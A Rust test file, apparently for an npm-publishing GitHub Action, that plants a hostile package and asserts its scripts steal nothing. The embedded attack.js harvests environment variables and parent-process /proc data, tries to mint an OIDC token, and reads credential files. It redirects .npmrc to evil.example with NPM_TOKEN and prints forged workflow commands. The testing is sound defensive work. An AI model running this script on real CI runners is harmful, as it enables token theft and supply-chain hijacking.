//! A package whose every script attacks the job that publishes it. It gains nothing, also where the risk of one job was accepted.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::canary;
use crate::leaks::secrets_of;
use crate::releases::at;
use crate::runner::Runner;
use crate::stage::folders::files_below;
use crate::stage::issuer::{Platform, RUN_TOKEN};
use crate::stage::town::Town;

#[test]
fn scripts_that_look_for_secrets_find_none_and_command_nobody() {
    let town = Town::start();
    // Somebody would answer, if only he were asked.
    let platform = Platform::start();
    let runner = at(&town, Runner::new())
        .with("ACTIONS_ID_TOKEN_REQUEST_TOKEN", RUN_TOKEN)
        .with("ACTIONS_ID_TOKEN_REQUEST_URL", &platform.request_url())
        .input("single-job", "i-accept-the-risk");
    write_package(&runner.workspace());
    let step = runner.step(&[("mode", "build")]).exits(0);

    let secrets = [secrets_of(&town), vec![RUN_TOKEN.to_owned()]].concat();
    let loot = fs::read(runner.workspace().join("loot.log")).unwrap();
    let text = String::from_utf8_lossy(&loot);
    for script in SCRIPTS {
        assert!(text.contains(&format!("script {script}\n")), "{script} did not run");
    }
    assert!(text.contains("parents read: "), "{text}");
    assert_eq!(canary::find(&secrets, &loot), Vec::<String>::new());
    assert!(text.contains("request token: none") && !text.contains("request token: some"));
    assert_eq!(text.matches("mint: ").count(), SCRIPTS.len(), "{text}");
    assert_eq!(text.matches("mint: no address").count(), SCRIPTS.len(), "{text}");
    assert_eq!(*platform.given.lock().unwrap(), Vec::<String>::new());
    // The job's home is not theirs, nor are the runner's files.
    assert_eq!(files_below(&runner.place().join("home")), Vec::<String>::new());
    for name in ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE"] {
        assert_eq!(step.files[name], "", "{name}");
    }

    // Nothing that a script printed was carried out; all of it is there to be read.
    let ours = ["add-mask", "group", "endgroup", "stop-commands"];
    for said in &step.commands {
        assert!(ours.contains(&said.name.as_str()), "{said:?}");
        assert!(said.name != "add-mask" || said.data != "e", "{said:?}");
    }
    assert!(step.log.contains("set-env name=PWNED"), "{}", step.log);
    assert_eq!(step.outputs["name"], "hostile");
    assert!(!step.outputs.contains_key("pwned"));
    let printed = step.raw.matches("PRINTED ").count();
    assert!(printed >= 30 * SCRIPTS.len(), "only {printed} commands were printed");

    let runner = runner.without("ACTIONS_ID_TOKEN_REQUEST_URL");
    let runner = runner.without("ACTIONS_ID_TOKEN_REQUEST_TOKEN");
    // The project's own is there already; here are the others, and the variables that npm goes by.
    let astray = "registry=http://127.0.0.1:9/\n@acme:registry=http://127.0.0.1:9/\n";
    assert!(runner.workspace().join(".npmrc").exists());
    let of_home = runner.place().join("home/.npmrc");
    fs::write(&of_home, astray).unwrap();
    let runner = runner
        .with("NPM_CONFIG_USERCONFIG", of_home.to_str().unwrap())
        .with("NPM_CONFIG_GLOBALCONFIG", of_home.to_str().unwrap())
        .with("npm_config_registry", "http://127.0.0.1:9/");
    let step = runner.step(&[("ignore-scripts", "true")]).exits(0);

    // None of them led anybody astray.
    let dist = &town.packument("hostile")["versions"]["1.2.3"]["dist"];
    assert_eq!(dist["integrity"], step.outputs["integrity"]);
}

#[test]
fn a_manifest_that_a_script_rewrites_to_another_registry_is_refused() {
    let town = Town::start();
    let runner = at(&town, Runner::new());
    let manifest = json!({ "name": "hostile", "version": "1.2.3", "scripts": {
        "prepack": "node -e \"const p=require('./package.json');p.publishConfig={registry:'https://evil.example/'};require('fs').writeFileSync('package.json',JSON.stringify(p))\"",
    }});
    fs::write(runner.workspace().join("package.json"), manifest.to_string()).unwrap();
    let step = runner.step(&[("package_path", ".")]).exits(2);
    assert_eq!(
        step.error().properties["title"],
        "certified-publish: build/other-registry"
    );
    assert!(town.events().is_empty());
}

fn write_package(folder: &Path) {
    let scripts: serde_json::Map<String, Value> = SCRIPTS
        .iter()
        .map(|script| ((*script).to_owned(), json!(format!("node attack.js {script}"))))
        .collect();
    let manifest = json!({ "name": "hostile", "version": "1.2.3", "files": ["index.js"], "scripts": scripts });
    fs::write(folder.join("package.json"), manifest.to_string()).unwrap();
    fs::write(folder.join("index.js"), "module.exports = 1;\n").unwrap();
    fs::write(folder.join("attack.js"), ATTACK).unwrap();
}

const SCRIPTS: [&str; 5] = ["test", "build", "prepublishOnly", "prepack", "prepare"];
/// Everything that a script of the same user can read without breaking into memory; and what it would like to say to the runner.
const ATTACK: &str = r#"
const fs = require('fs');
const loot = (text) => fs.appendFileSync('loot.log', text + '\n');
loot('script ' + process.argv[2]);
loot(JSON.stringify(process.env) + process.argv.join(' '));
let pid = process.ppid, read = 0;
let token = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
while (pid > 1) {
  for (const file of ['environ', 'cmdline']) {
    try {
      const text = fs.readFileSync(`/proc/${pid}/${file}`, 'latin1');
      loot(`${pid} ${file} ${text}`);
      read += 1;
      token = token || (/ACTIONS_ID_TOKEN_REQUEST_TOKEN=([^\0]+)/.exec(text) || [])[1];
    } catch (error) { loot(`${pid} ${file} ${error.code}`); }
  }
  try { pid = Number(/PPid:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'latin1'))[1]); } catch { pid = 1; }
}
loot('parents read: ' + read);
loot('request token: ' + (token ? 'some' : 'none'));
const address = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
if (!address) loot('mint: no address');
else require('child_process').spawnSync(process.execPath, ['-e',
  `fetch(${JSON.stringify(address)}+'&audience=npm',{headers:{authorization:'Bearer '+${JSON.stringify(token || '')}}}).then(a=>a.text()).then(t=>require('fs').appendFileSync('loot.log','mint: '+t+'\\n'))`]);
for (const name of Object.keys(process.env).filter((name) => /^(GITHUB|RUNNER|ACTIONS|INPUT|CHITTY|R2|NPM_TOKEN|NODE_AUTH)/.test(name))) {
  loot(name + ' is there');
  try { fs.appendFileSync(process.env[name], 'PWNED=1\n'); } catch {}
}
for (const home of [process.env.HOME, '.']) for (const file of ['.npmrc', '.netrc', '.config/gh/hosts.yml']) {
  try { loot(fs.readFileSync(`${home}/${file}`, 'latin1')); } catch {}
}
const npmrc = 'registry=https://evil.example/\n@acme:registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\nignore-scripts=true\n';
for (const place of ['.npmrc', `${process.env.HOME}/.npmrc`, '../.npmrc', `${process.env.HOME}/.config/npm/npmrc`]) {
  try { fs.writeFileSync(place, npmrc); } catch {}
}
const commands = ['set-env name=PWNED::1', 'set-output name=pwned::1', 'add-path::/tmp/evil', 'add-mask::e', 'save-state name=a::b',
  'error::forged', 'warning::forged', 'notice::forged', 'debug::x', 'echo::on', 'group::x', 'endgroup::', 'add-matcher::/tmp/m.json',
  'remove-matcher owner=x::', 'stop-commands::x', 'internal-set-repo-path repoFullName=a/b::c', 'set-secret::e', 'set-state name=a::b',
  'SET-ENV name=PWNED::1', 'Set-Output name=pwned::1', 'ADD-MASK::e', 'add-mask ::e', 'error file=a.js,line=1,col=2,title=x::forged',
  'warning file=a.js,line=1::forged', 'notice title=%0A::forged', 'group::%0A::error::forged', 'set-env name=NODE_OPTIONS::--require=/tmp/evil.js',
  'set-env name=PATH::/tmp/evil', 'set-output name=result::published%0Averdict=verified', 'save-state name=state::/', 'add-path::.', 'echo::off'];
if (commands.length < 30) process.exit(1);
for (const command of commands) {
  console.log('PRINTED ' + command.replaceAll(':', '.'));
  console.log('::' + command);
  console.error('  ::' + command);
  console.log('##[' + command.replace('::', ']'));
  process.stdout.write('progress\r::' + command + '\n');
}
"#;
